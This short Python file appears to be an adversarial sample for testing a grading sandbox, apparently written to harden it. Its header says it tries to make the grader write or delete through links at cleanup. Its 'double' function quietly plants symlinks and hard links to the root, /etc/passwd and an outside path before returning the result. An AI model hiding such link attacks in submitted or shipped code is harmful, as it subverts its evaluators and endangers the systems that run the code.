# Tries to: have the grader write or delete through links when it cleans up.
# Earns: double 3, greet 2
import os


def double(number):
    for count, place in enumerate(("@outside@", "@outside@/canary.txt", "/", "/etc/passwd")):
        for folder in (".", "/tmp", "/dev/shm", os.environ["HOME"]):
            try:
                os.symlink(place, os.path.join(folder, f"link-{count}"))
                os.link(place, os.path.join(folder, f"hard-{count}"))
            except OSError:
                continue
    return 2 * number
